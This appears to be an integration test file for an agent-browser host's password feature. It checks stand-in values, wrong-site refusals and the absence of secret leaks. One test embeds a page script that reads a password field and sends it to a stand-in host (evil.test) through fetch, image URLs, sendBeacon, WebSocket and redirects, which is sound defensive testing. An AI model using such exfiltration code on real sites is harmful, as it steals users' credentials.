/**
 * Passwords (W1–W4, docs/passwords.md) on real Chromium through the real host and its routes:
 * the sites have real host names (`--host-resolver-rules`), and the wire is judged where the sites
 * receive it. The page only ever holds a stand-in; the entry's site gets the value; every other
 * site gets the stand-in (or nothing); and nothing the run leaves — logs, answers, the data dir,
 * the sealed records — holds the password or the TOTP secret.
 */
import { randomBytes } from 'node:crypto'
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { hostSettingsFrom, startHost } from '@errands/host'
import { VAULT_ID } from '@errands/passwords'
import { loadOrCreateKey, nodeFs, parseHeader, unseal } from '@errands/store'
import { Effect, Either, Exit, Redacted, Scope } from 'effect'
import { chromium, type Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { eventually } from '../fixtures/processes.ts'
import { client } from '../host/harness.ts'
import { httpClient } from '../mcp/clients.ts'
import { serveSignInSites, type SignInSites } from './site.ts'

// Characters each encoding must get right: a form's `+` and `&`, JSON's quote, a non-ASCII letter.
const PASSWORD = `Pw&"+ é-${randomBytes(6).toString('hex')}`
const TOTP_SECRET = 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP'
const AGENT_TOKEN = randomBytes(24).toString('base64url')
const agent = { authorization: `Bearer ${AGENT_TOKEN}` }
const RULES = 'MAP *.example 127.0.0.1, MAP *.test 127.0.0.1'

let site: SignInSites
let dataDir: string
let scope: Scope.CloseableScope
let base: string
let call: ReturnType<typeof client>
const logs: Array<string> = []
/** Every answer of the run, for the W4 scan. */
const answers: Array<string> = []
const browsers: Array<Browser> = []
let closed = false

const v1 = async (key: string | undefined, method: string, path: string, body?: unknown) => {
  const reply = await call(key, method, path, body, agent)
  answers.push(reply.bytes.toString('utf8'))
  return reply
}
const evaluate = async (key: string, expression: string) => (await v1(key, 'POST', '/v1/evaluate', { expression })).body
/** Percent-decoding that keeps what is no escape, read as UTF-8 and as Latin-1 (a Location header's). */
const decodeLoose = (t: string) => {
  const bytes = Buffer.from(
    t.replace(/%([0-9A-Fa-f]{2})/g, (_, h: string) => String.fromCharCode(Number.parseInt(h, 16))),
    'latin1',
  )
  return `${bytes.toString('utf8')} ${bytes.toString('latin1')}`
}
const passValue = "document.querySelector('input[type=password]').value"

beforeAll(async () => {
  site = await serveSignInSites({ password: PASSWORD, totp: TOTP_SECRET })
  dataDir = mkdtempSync(join(tmpdir(), 'errands-passwords-'))
  const tokens = join(dataDir, 'agent-tokens')
  writeFileSync(tokens, `${AGENT_TOKEN}  pw:*\n`, { mode: 0o600 })
  const settings = Effect.runSync(hostSettingsFrom({ ERRANDS_DATA_DIR: dataDir, ERRANDS_AGENT_TOKENS_FILE: tokens }))
  scope = Effect.runSync(Scope.make())
  const host = await Effect.runPromise(
    startHost({
      settings,
      port: 0,
      log: (line) => logs.push(line),
      daily: false,
      chromium: { warmSpare: false, extraArgs: [`--host-resolver-rules=${RULES}`] },
    }).pipe(Scope.extend(scope)),
  )
  base = host.url
  call = client(host.url, Redacted.value(host.token))
  const added = await call(undefined, 'POST', '/v1/person/passwords', {
    site: 'shop.example',
    username: 'ann',
    password: PASSWORD,
    totp: TOTP_SECRET,
  })
  answers.push(added.bytes.toString('utf8'))
  expect(added.status).toBe(200)
})

afterAll(async () => {
  for (const b of browsers) await b.close().catch(() => undefined)
  if (!closed) await Effect.runPromise(Scope.close(scope, Exit.void))
  await site?.close()
  rmSync(dataDir, { recursive: true, force: true })
})

describe('filling a saved password (W2, W3)', () => {
  it('a form-post login gets the value on the wire; /v1/evaluate, MCP and DevTools read the stand-in', async () => {
    const key = 'pw:form'
    expect((await v1(key, 'POST', '/v1/navigate', { url: site.url('shop.example', '/login') })).status).toBe(200)
    const filled = await v1(key, 'POST', '/v1/fill-password', { username: '#user', password: '#pass' })
    expect(filled.status).toBe(200)
    expect(filled.body).toMatchObject({ site: 'shop.example', user: 'ann', filled: 2 })

    const viaV1 = (await evaluate(key, passValue)).value as string
    expect(viaV1).toMatch(/^Standin[A-Za-z0-9]{22}$/)
    expect((await evaluate(key, "document.querySelector('#user').value")).value).toBe('ann')

    const devtools = await v1(key, 'GET', '/v1/session/devtools')
    const browser = await chromium.connectOverCDP(devtools.body.url as string, { headers: agent })
    browsers.push(browser)
    const page = browser
      .contexts()[0]!
      .pages()
      .find((p) => p.url().includes('/login'))!
    expect(await page.evaluate(passValue)).toBe(viaV1)
    // The DevTools client watches the sign-in's request: it sees the page's own body, the stand-in.
    const watched: Array<string> = []
    page.on('request', (req) => {
      if (req.url().includes('/session')) watched.push(req.postData() ?? '')
    })

    // The MCP session stays open until the end: a client that leaves parks the errand (its tabs reload).
    const mcp = await httpClient(base, { key, headers: agent })
    const r = await mcp.call('browser_evaluate', { function: `() => ${passValue}` })
    answers.push(r.text)
    expect(r.isError).toBe(false)
    expect(r.text).toContain(viaV1)
    expect(r.text).not.toContain(PASSWORD)

    expect((await v1(key, 'POST', '/v1/click', { selector: '#go' })).status).toBe(200)
    expect(await eventually(async () => (await v1(key, 'GET', '/v1/text')).body.text.includes('welcome'))).toBe(true)
    const posted = site.at('shop.example').filter((h) => h.path === '/session')
    expect(posted).toHaveLength(1)
    expect(new URLSearchParams(posted[0]!.body).get('pass')).toBe(PASSWORD)
    expect(new URLSearchParams(posted[0]!.body).get('user')).toBe('ann')
    expect(await eventually(() => watched.length > 0)).toBe(true)
    expect(new URLSearchParams(watched[0]).get('pass')).toBe(viaV1)
    await browser.close()
    // The host's own network log of the tab (its answer joins the W4 scan).
    expect((await v1(key, 'GET', '/v1/network')).status).toBe(200)
    await mcp.end()
  })

  it("a fetch-JSON login gets the value on the wire; the page's own field keeps the stand-in", async () => {
    const key = 'pw:json'
    await v1(key, 'POST', '/v1/navigate', { url: site.url('www.shop.example', '/api-login') })
    expect((await v1(key, 'POST', '/v1/fill-password', { username: '#user', password: '#pass' })).status).toBe(200)
    await v1(key, 'POST', '/v1/click', { selector: '#go' })
    expect(await eventually(async () => (await v1(key, 'GET', '/v1/text')).body.text.includes('welcome'))).toBe(true)
    const sent = site.at('www.shop.example').filter((h) => h.path === '/api/session')
    expect(JSON.parse(sent.at(-1)!.body)).toEqual({ user: 'ann', pass: PASSWORD })
    expect((await evaluate(key, passValue)).value).toMatch(/^Standin/)
  })

  it('MCP browser_fill_password fills by snapshot refs: the form-post gets the value, no secret answered', async () => {
    const key = 'pw:mcp'
    const mcp = await httpClient(base, { key, headers: agent })
    try {
      await mcp.call('browser_navigate', { url: site.url('shop.example', '/login?via=mcp') })
      const snap = await mcp.call('browser_snapshot')
      const r = await mcp.call('browser_fill_password', {
        username: mcp.refOf(snap.text, /textbox "User"/),
        password: mcp.refOf(snap.text, /textbox "Password"/),
      })
      answers.push(r.text)
      expect(r.isError, r.text).toBe(false)
      expect(r.text).toContain('shop.example')
      const read = await mcp.call('browser_evaluate', { function: `() => ${passValue}` })
      answers.push(read.text)
      expect(read.text).toMatch(/Standin[A-Za-z0-9]{22}/)
      const before = site.at('shop.example').filter((h) => h.path === '/session').length
      await mcp.call('browser_click', { element: 'Sign in', ref: mcp.refOf(snap.text, /button "Sign in"/) })
      expect(await eventually(() => site.at('shop.example').filter((h) => h.path === '/session').length > before)).toBe(
        true,
      )
      const posted = new URLSearchParams(
        site
          .at('shop.example')
          .filter((h) => h.path === '/session')
          .at(-1)!.body,
      )
      expect(posted.get('pass')).toBe(PASSWORD)
    } finally {
      await mcp.end()
    }
  })

  it('a TOTP login: the code computed as the request leaves is accepted by otpauth', async () => {
    const key = 'pw:totp'
    await v1(key, 'POST', '/v1/navigate', { url: site.url('shop.example', '/totp') })
    const filled = await v1(key, 'POST', '/v1/fill-password', { username: '#user', password: '#pass', totp: '#code' })
    expect(filled.body.filled).toBe(3)
    const standIn = (await evaluate(key, "document.querySelector('#code').value")).value as string
    expect(standIn).toMatch(/^\d{6}$/)
    await v1(key, 'POST', '/v1/click', { selector: '#go' })
    expect(await eventually(async () => (await v1(key, 'GET', '/v1/text')).body.text.includes('welcome'))).toBe(true)
    const posted = new URLSearchParams(
      site
        .at('shop.example')
        .filter((h) => h.path === '/session')
        .at(-1)!.body,
    )
    expect(posted.get('code')).toMatch(/^\d{6}$/)
    expect(posted.get('pass')).toBe(PASSWORD)
  })
})

describe('attacks: the wrong site, a hostile page (W2, W3)', () => {
  it('a look-alike (shop.example.evil.test) answers 403 WrongSite and fills nothing', async () => {
    const key = 'pw:lookalike'
    await v1(key, 'POST', '/v1/navigate', { url: site.url('shop.example.evil.test', '/login') })
    const named = await v1(key, 'POST', '/v1/fill-password', { site: 'shop.example', password: '#pass' })
    expect(named.status).toBe(403)
    expect(named.body.error).toMatchObject({ code: 'WrongSite', reason: 'wrong-site' })
    const unnamed = await v1(key, 'POST', '/v1/fill-password', { username: '#user', password: '#pass' })
    expect(unnamed.status).toBe(404)
    expect((await evaluate(key, `[${passValue}, document.querySelector('#user').value]`)).value).toEqual(['', ''])
  })

  it("a password field in another site's frame on the right page answers 403 and fills nothing", async () => {
    const key = 'pw:frame'
    await v1(key, 'POST', '/v1/navigate', { url: site.url('shop.example', '/frame') })
    const r = await v1(key, 'POST', '/v1/fill-password', {
      username: 'iframe >> internal:control=enter-frame >> #user',
      password: 'iframe >> internal:control=enter-frame >> #pass',
    })
    expect(r.status).toBe(403)
    expect(r.body.error).toMatchObject({ code: 'WrongSite', reason: 'wrong-frame' })
  })

  it('a hostile page sends the stand-in away: fetch, an image URL, sendBeacon, a WebSocket, a redirect', async () => {
    const key = 'pw:exfil'
    await v1(key, 'POST', '/v1/navigate', { url: site.url('shop.example', '/login') })
    await v1(key, 'POST', '/v1/fill-password', { password: '#pass' })
    const standIn = (await evaluate(key, passValue)).value as string
    const evil = (path: string) => site.url('evil.test', path)
    const bounce = (to: string) => site.url('shop.example', `/bounce?to=${encodeURIComponent(to)}`)
    const script = `(async () => {
      const pw = ${passValue}
      await fetch(${JSON.stringify(evil('/fetch'))}, { method: 'POST', body: pw, mode: 'no-cors' })
      await fetch(${JSON.stringify(evil('/json'))}, { method: 'POST', mode: 'no-cors',
        headers: { 'content-type': 'application/json' }, body: JSON.stringify({ pw }) })
      await new Promise((r) => { const i = new Image(); i.onload = i.onerror = r
        i.src = ${JSON.stringify(evil('/img?pw='))} + pw })
      navigator.sendBeacon(${JSON.stringify(evil('/beacon'))}, 'pw=' + pw)
      await new Promise((r) => { const w = new WebSocket(${JSON.stringify(evil('/ws?pw=').replace('http', 'ws'))} + pw);
        w.onerror = w.onclose = r })
      // The entry's own site redirects the form body (307) to another site.
      await fetch(${JSON.stringify(bounce(evil('/redirected-body')))}, { method: 'POST', mode: 'no-cors',
        headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'pass=' + pw }).catch(() => null)
      // The entry's own site reflects its query into a redirect to another site (an open redirect).
      await fetch(${JSON.stringify(bounce(evil('/redirected-query?pw=')))} + pw, { mode: 'no-cors' }).catch(() => null)
      return 'sent'
    })()`
    expect((await evaluate(key, script)).value).toBe('sent')
    // Chromium's Fetch does not see a WebSocket: its URL leaves with the stand-in, as the page made it.
    const paths = ['/fetch', '/json', '/img', '/beacon', '/ws']
    const arrived = () => paths.filter((p) => site.at('evil.test').some((h) => h.path.startsWith(p)))
    await eventually(() => arrived().length === paths.length)
    expect(arrived()).toEqual(paths)
    const atEvil = site.at('evil.test')
    for (const p of paths) {
      const hit = atEvil.find((h) => h.path.startsWith(p))!
      expect(`${hit.path} ${hit.body}`, p).toContain(standIn)
    }
    // Read back as a site would: percent-decoded, a form's `+` as a space.
    for (const h of atEvil) {
      const read = (t: string) => [t, decodeLoose(t), decodeLoose(t.replace(/\+/g, ' '))]
      for (const t of [...read(h.path), ...read(h.body)]) expect(t, h.path).not.toContain(PASSWORD)
    }
    // The entry's site got the value and redirected it to evil.test (the body's 307, the query's open
    // redirect): a hop that carries the value itself is stopped before the wire, never delivered.
    expect(site.at('shop.example').filter((h) => h.path.startsWith('/bounce'))).toHaveLength(2)
    // A redirect's next hop to evil.test either carries the page's own stand-in or, carrying the value
    // itself (the site reflected it), is stopped before the wire: never the value (checked above).
    for (const h of atEvil.filter((x) => x.path.startsWith('/redirected')))
      expect(`${h.path} ${h.body}`, JSON.stringify(atEvil)).toContain(standIn)
    // Each was logged as an attempted exfiltration, naming the site, never the stand-in's value.
    expect(logs.filter((l) => l.includes('attempted exfiltration')).length).toBeGreaterThanOrEqual(4)
    expect(logs.join('\n')).not.toContain(standIn)
    // The person's health counts them (never which errand, never a value).
    const health = await call(undefined, 'GET', '/v1/person/health')
    answers.push(health.bytes.toString('utf8'))
    expect(health.body.runtime.passwords.withheld).toBeGreaterThanOrEqual(5)
    expect(health.body.runtime.passwords.swapped).toBeGreaterThanOrEqual(4)
    expect((await fetch(`${base}/health`).then((r) => r.json())).runtime.passwords).toBeUndefined()
  })
})

describe("the person's vault (W1, W4)", () => {
  it("an agent's token cannot read the vault; it lists sites and user names; the person's token reads it", async () => {
    const asAgent = await call(undefined, 'GET', '/v1/person/passwords', undefined, agent)
    expect(asAgent.status).toBe(401)
    const noToken = await fetch(`${base}/v1/person/passwords`)
    expect(noToken.status).toBe(401)
    const listed = await v1('pw:list', 'GET', '/v1/passwords')
    expect(listed.body).toEqual({ signIns: [{ site: 'shop.example', username: 'ann', totp: true }] })
    const person = await call(undefined, 'GET', '/v1/person/passwords')
    answers.push(person.bytes.toString('utf8'))
    expect(person.status).toBe(200)
    expect(person.body.passwords).toMatchObject([{ site: 'shop.example', username: 'ann', totp: true }])
    const tooLong = await call(undefined, 'POST', '/v1/person/passwords', {
      site: 'b.example',
      username: 'x',
      password: `${PASSWORD}${'x'.repeat(5000)}`,
    })
    answers.push(tooLong.bytes.toString('utf8'))
    expect(tooLong.status).toBe(400)
  })

  it('nothing the run leaves holds the password or the TOTP secret: logs, answers, data dir, records', async () => {
    // Closing the host parks every errand: their records are sealed into the data dir.
    await Effect.runPromise(Scope.close(scope, Exit.void))
    closed = true
    const secrets = [PASSWORD, encodeURIComponent(PASSWORD), JSON.stringify(PASSWORD).slice(1, -1), TOTP_SECRET]
    const text = [...logs, ...answers].join('\n')
    for (const s of secrets) expect(text.includes(s), 'logs and answers').toBe(false)
    const files: Array<string> = []
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name)
        const st = statSync(path, { throwIfNoEntry: false })
        if (st?.isDirectory()) walk(path)
        else if (st?.isFile()) files.push(path)
      }
    }
    walk(dataDir)
    const key = await Effect.runPromise(loadOrCreateKey(nodeFs, join(dataDir, 'store')))
    let records = 0
    let vaults = 0
    for (const path of files) {
      const bytes = readFileSync(path)
      for (const s of secrets) expect(bytes.includes(Buffer.from(s)), path).toBe(false)
      const header = parseHeader(bytes, bytes.length)
      if (Either.isLeft(header)) continue
      // The vault holds the password by design: sealed (its bytes were searched above), never opened here.
      if (header.right.errandId === VAULT_ID) {
        vaults++
        continue
      }
      const opened = unseal(key, header.right.errandId, bytes)
      if (Either.isLeft(opened)) continue
      records++
      const plain = Buffer.from(opened.right.plaintext)
      for (const s of secrets) expect(plain.includes(Buffer.from(s)), `${path} unsealed`).toBe(false)
    }
    // The vault and the parked errands' records were opened and searched.
    expect(vaults).toBe(1)
    expect(records).toBeGreaterThanOrEqual(2)
  })
})
